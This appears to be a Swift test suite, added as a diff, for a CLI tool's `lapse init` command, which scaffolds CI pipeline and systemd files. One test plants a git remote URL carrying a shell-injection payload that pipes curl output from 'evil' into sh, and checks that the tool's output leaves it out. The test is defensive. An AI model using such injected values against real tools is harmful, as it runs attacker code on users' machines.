@@ -1,0 +1,114 @@
+import Foundation
+import LapseCommand
+import Testing
+
+extension CommandLineTests {
+  /// `lapse init`: writes what fits, and nothing over what is there.
+  @Suite struct InitCommandTests {
+    private let directory: Workspace
+
+    init() throws {
+      directory = try Workspace()
+      try FileManager.default.createDirectory(
+        atPath: directory.place("clone"), withIntermediateDirectories: true)
+    }
+
+    private func initialise(_ arguments: String...) throws -> Child {
+      try Child(["init"] + arguments + ["--output", directory.place("clone")])
+    }
+
+    private func files() throws -> [String] {
+      try (directory.contents(of: "clone") ?? [:]).keys.filter { !$0.hasPrefix(".git/") }.sorted()
+    }
+
+    @Test(arguments: [
+      (
+        "github",
+        [
+          ".github/actions/lapse/action.yml", ".github/actions/lapse/lapse-run.sh",
+          ".github/workflows/lapse.yml", "lapse.yml", "owners.yml",
+        ]
+      ),
+      ("azure-pipelines", ["lapse-pipeline.yml", "lapse-run.sh", "lapse.yml", "owners.yml"]),
+      ("gitlab", ["lapse-run.sh", "lapse.yml", "owners.yml", "templates/lapse.yml"]),
+      ("jenkins", ["Jenkinsfile", "lapse-run.sh", "lapse.yml", "owners.yml"]),
+      ("systemd", ["lapse-run.sh", "lapse.service", "lapse.timer", "lapse.yml", "owners.yml"]),
+      ("kubernetes", ["lapse-tenants.yml"]),
+    ])
+    func writesTheFilesOfASystem(system: String, expected: [String]) throws {
+      let run = try initialise(system)
+      #expect(run.status == 0)
+      #expect(try files() == expected)
+      for (name, data) in try directory.contents(of: "clone") ?? [:] {
+        #expect(!data.isEmpty, "\(name)")
+        #expect(
+          FileManager.default.isExecutableFile(atPath: directory.place("clone/\(name)"))
+            == name.hasSuffix(".sh"), "\(name)")
+      }
+      // Read-only, by three tools.
+      #expect(run.output.contains("9a5d68dd-52b0-4cc2-bd40-abcf44ac3a30"))
+      for tool in ["az rest", "New-MgServicePrincipalAppRoleAssignment", "azuread_app_role"] {
+        #expect(run.output.contains(tool))
+      }
+      for placeholder in ["@SYSTEM@", "@ISSUER@", "@SUBJECT@", "@PRINCIPAL@"] {
+        #expect(!run.output.contains(placeholder))
+      }
+    }
+
+    @Test func theDirectoryTellsWhichSystemAndWhichRepository() throws {
+      try directory.write(
+        "clone/.git/config", "[remote \"origin\"]\n\turl = git@github.com:contoso/identity.git\n")
+      let run = try initialise()
+      #expect(run.status == 0)
+      #expect(run.output.contains("repo:contoso/identity:ref:refs/heads/main"))
+    }
+
+    @Test func aHostileRemoteIsInNoCommand() throws {
+      try directory.write(
+        "clone/.git/config",
+        "[remote \"origin\"]\n\turl = https://github.com/a/b';curl${IFS}evil|sh;'\n")
+      let run = try initialise()
+      #expect(run.status == 0)
+      #expect(!run.output.contains("evil"))
+      #expect(run.output.contains("repo:OWNER/REPOSITORY:"))
+    }
+
+    @Test func asksNothingOnAPipe() throws {
+      let run = try initialise()
+      #expect(run.status == 2)
+      #expect(run.errors.contains("lapse init github|azure-pipelines"))
+      #expect(try files() == [])
+    }
+
+    @Test func severalSystemsAreNoAnswer() throws {
+      try directory.write("clone/Jenkinsfile", "")
+      try directory.write("clone/.gitlab-ci.yml", "")
+      #expect(try initialise().status == 2)
+    }
+
+    @Test func overwritesNothingWithoutForce() throws {
+      try directory.write("clone/Jenkinsfile", "mine")
+      try directory.write("clone/lapse.yml", "horizonDays: 45")
+      let refused = try initialise("jenkins")
+      #expect(refused.status == 2)
+      #expect(refused.errors.contains("Jenkinsfile: is there already"))
+      #expect(try files() == ["Jenkinsfile", "lapse.yml"])
+      // What people made their own is kept, and the pipeline comes.
+      let systemd = try initialise("systemd")
+      #expect(systemd.status == 0)
+      #expect(systemd.output.contains("kept"))
+      let kept = try String(contentsOfFile: directory.place("clone/lapse.yml"), encoding: .utf8)
+      #expect(kept == "horizonDays: 45")
+      #expect(try initialise("jenkins", "--force").status == 0)
+      let forced = try String(contentsOfFile: directory.place("clone/Jenkinsfile"), encoding: .utf8)
+      #expect(forced.hasPrefix("// Every day"))
+    }
+
+    @Test func tenantsAddTheMatrix() throws {
+      #expect(try initialise("--tenants").status == 0)
+      #expect(try files().contains(".github/workflows/lapse-tenants.yml"))
+      #expect(try files().contains("tenants.yml"))
+      #expect(try initialise("gitlab", "--tenants").status == 2)
+    }
+  }
+}
